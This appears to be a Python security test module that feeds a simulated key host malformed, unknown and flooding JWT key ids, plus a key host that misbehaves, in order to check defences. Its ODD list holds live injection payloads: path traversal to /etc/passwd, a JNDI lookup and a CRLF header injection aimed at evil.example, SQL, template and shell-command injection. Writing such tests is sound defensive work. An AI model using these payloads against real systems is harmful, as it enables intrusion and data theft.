"""Key ids: ways out of the key host's path, other hosts, odd types, floods; and a key host that misbehaves."""

from collections.abc import Callable, Iterator
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from attacks.case import Attack
from attacks.scene import UNKNOWN_KID, Reply, Scene
from tenure.simulator import tokens
from tenure.simulator.keyhost import Answer
from tenure.simulator.tokens import OMIT

ODD: tuple[Any, ...] = (
    OMIT, None, "", 0, 1, True, [], ["a"], {}, {"kid": "a"}, "..", "../x", "../../etc/passwd", "a/b", "/a", "a%2Fb",
    "..%2f..%2fx", "%2e%2e/x", "a.b", "a b", " a", "a\n", "a\r\nHost: evil.example", "a?b=c", "a#b", "a@b", "a:b", "é",
    "１", "x" * 129, "x" * 5000, "file:///etc/passwd", "' OR '1'='1", "${jndi:ldap://evil.example/a}", "{{7*7}}",
    "a;id", "a|id", "$(id)", "a\\b", "\u202ea", "a,b", "*",
)  # fmt: skip
TOWARDS_THE_TRAP = ("{}/key", "//{host}/key", "@{host}/key", "{host}", "http:{host}", "..//{host}/x", "a@{host}:{port}")


def _shown(kid: Any) -> str:
    return "left out" if kid is OMIT else repr(kid) if len(repr(kid)) < 40 else f"of {len(kid)} characters"


def _install(scene: Scene, kid: Any, route: str = "installed") -> Reply:
    return scene.deliver(route, scene.forged(route, {"kid": kid}))


def malformed() -> Iterator[Attack]:
    """Key ids that are none are never put behind the key host's URL."""
    for odd in ODD:
        shown = _shown(odd)
        yield Attack(f"kid {shown}", "kid_malformed", lambda s, k=odd: _install(s, k))
    for odd in ODD[:12]:
        shown = _shown(odd)
        yield Attack(f"kid {shown} at uninstalled", "kid_malformed", lambda s, k=odd: _install(s, k, "uninstalled"))
    for form in TOWARDS_THE_TRAP:
        yield Attack(
            f"kid {form} of the stranger's server", "kid_malformed",
            lambda s, f=form: _install(s, f.format(s.trap.url, host=f"127.0.0.1:{s.trap.port}", port=s.trap.port)),
        )  # fmt: skip
    for nul in ("a\0", "\0", "a\ud800"):
        yield Attack(f"kid {nul!r}", "token_malformed", lambda s, k=nul: _install(s, k))


def unknown() -> Iterator[Attack]:
    """Key ids that no host has a key for."""
    for kid in (UNKNOWN_KID, "-", "_", "undefined", "null", "fake-kid"):
        yield Attack(f"kid {kid} that no host knows", "kid_unknown", lambda s, k=kid: _install(s, k))
    yield Attack("the honest kid in capitals", "kid_unknown", lambda s: _install(s, s.victim.kid.upper() + "-A"))
    yield Attack("the honest kid cut short", "kid_unknown", lambda s: _install(s, s.victim.kid[:-1]))
    yield Attack(
        "the honest kid, another honest key", "signature_bad",
        lambda s: s.deliver("installed", tokens.rs256(
            s.claims("installed"), s.rival.key_host.private_key(s.house.keys.new_key()), s.victim.kid)),
    )  # fmt: skip


def _elliptic() -> bytes:
    key = ec.generate_private_key(ec.SECP256R1()).public_key()
    return key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


def _private(scene: Scene) -> bytes:
    return scene.attacker.key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )


def _weak() -> bytes:
    return tokens.public_pem(tokens.pooled_key("weak", 0, 1024))


MISBEHAVIOURS: dict[str, Callable[..., Answer]] = {
    **{
        f"redirects with {code} to the stranger's key": lambda s, c=code: Answer(c, b"", (("Location", s.trap.url),))
        for code in (301, 302, 303, 307, 308)
    },
    "answers 200 with nothing": lambda s: Answer(200, b""),
    "answers 200 with a page": lambda s: Answer(200, b"<html>Sign in</html>"),
    "answers 200 with junk": lambda s: Answer(200, b"\xff\x00" * 400),
    "answers a key in 9 KB": lambda s: Answer(200, tokens.public_pem(s.attacker.key) + b"\n" * 9000),
    "answers a megabyte": lambda s: Answer(200, tokens.public_pem(s.attacker.key) + b" " * 1_000_000),
    "answers a key of 1024 bits": lambda s: Answer(200, _weak()),
    "answers a key of another kind": lambda s: Answer(200, _elliptic()),
    "answers a private key": lambda s: Answer(200, _private(s)),
    "answers a key with status 500": lambda s: Answer(500, tokens.public_pem(s.attacker.key)),
    "answers a key with status 403": lambda s: Answer(403, tokens.public_pem(s.attacker.key)),
    "answers a key with status 206": lambda s: Answer(206, tokens.public_pem(s.attacker.key)),
    "answers a key with status 203": lambda s: Answer(203, tokens.public_pem(s.attacker.key)),
    "answers 204": lambda s: Answer(204),
    "answers 410": lambda s: Answer(410),
    "answers after three seconds": lambda s: Answer(200, tokens.public_pem(s.attacker.key), delay=3.0),
}


def _misled(scene: Scene, number: int, answer: Callable[..., Answer]) -> Reply:
    kid = f"odd-host-{number}"
    scene.house.keys.behave(kid, answer(scene))
    key = tokens.pooled_key("weak", 0, 1024) if "1024" in tuple(MISBEHAVIOURS)[number] else scene.attacker.key
    return scene.deliver("installed", tokens.rs256(scene.claims("installed"), key, kid))


def misbehaving() -> Iterator[Attack]:
    """A key host that does anything but give a sound key: the caller may try again, nothing is believed."""
    for number, (how, answer) in enumerate(MISBEHAVIOURS.items()):
        yield Attack(f"a key host that {how}", "key_unavailable", lambda s, n=number, a=answer: _misled(s, n, a), 503)


def _flood(scene: Scene) -> Reply:
    replies = [_install(scene, f"invented-{number}") for number in range(40)]
    assert {reply.status for reply in replies} <= {401, 503}
    view = scene.view
    assert view is not None
    assert {made.reason for made in scene.decisions(view.number)} == {"kid_unknown", "key_unavailable"}
    scene.begin()
    assert scene.house.site().install().status == 204, "an honest new key is shut out"
    scene.begin()
    return _install(scene, "invented-last")


ATTACKS = (
    *malformed(), *unknown(), *misbehaving(),
    Attack("a flood of invented kids, an honest new one among them", "key_unavailable", _flood, 503),
)  # fmt: skip
